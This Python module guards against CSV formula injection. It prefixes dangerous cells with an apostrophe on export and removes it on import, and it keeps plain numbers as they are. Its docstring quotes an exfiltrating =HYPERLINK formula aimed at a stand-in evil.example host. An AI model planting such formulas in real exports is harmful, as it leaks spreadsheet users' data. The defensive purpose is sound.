"""Cells Excel would run as a formula, made inert on the way out and restored on the way in.

Any LINE user chooses their own display name, so `=HYPERLINK("http://evil.example/?"&A3,"coupon")`
can reach an export through sync and run when the shop opens the file. Excel (and LibreOffice)
read a cell as a formula when it starts with = + - @, and tab or CR can hide such a start; a
leading apostrophe makes it text. A plain number (-5, +81, 1,200.5) is left alone: it is no
formula, and a number field must stay a number in Excel.

The rule is reversible, so an export imported again gives back exactly what was exported: the
apostrophe is added when the cell, after any apostrophes it already starts with, is dangerous, and
import removes one apostrophe under the same condition.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

_TRIGGERS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in _TRIGGERS and not _PLAIN_NUMBER.fullmatch(cell)


def neutralise(cell: str) -> str:
    """The cell as it is safe to write: a leading apostrophe when Excel would read it as a formula."""
    if cell and (cell[0] in _TRIGGERS or cell[0] == "'") and _dangerous(cell.lstrip("'")):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The inverse of neutralise, for a cell read back from a CSV."""
    if cell.startswith("'") and _dangerous(cell.lstrip("'")):
        return cell[1:]
    return cell


def restore_row(cells: list[str]) -> list[str]:
    # A row holds an apostrophe so rarely that one C-level search decides for the whole row.
    if "'" not in "".join(cells):
        return cells
    return [restore(c) for c in cells]


class SafeWriter:
    """csv.writer whose every cell goes through neutralise: what every CSV the app writes uses."""

    def __init__(self, f: Any, **kwargs: Any) -> None:
        self._out = csv.writer(f, **kwargs)

    def writerow(self, cells: Iterable[Any]) -> None:
        self._out.writerow([neutralise(c) if isinstance(c, str) else c for c in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for cells in rows:
            self.writerow(cells)
